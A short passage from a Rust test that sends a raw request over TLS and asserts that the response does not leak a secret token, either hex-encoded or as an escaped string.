        let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
        let hex: String = SECRET_VALUE.bytes().map(|b| format!("{b:02x}")).collect();
        assert!(!out.contains(&hex) && !out.contains("REAL\\u002fTOKEN"), "{path}: {out}");
    }
    r.tls.finish().await;
}
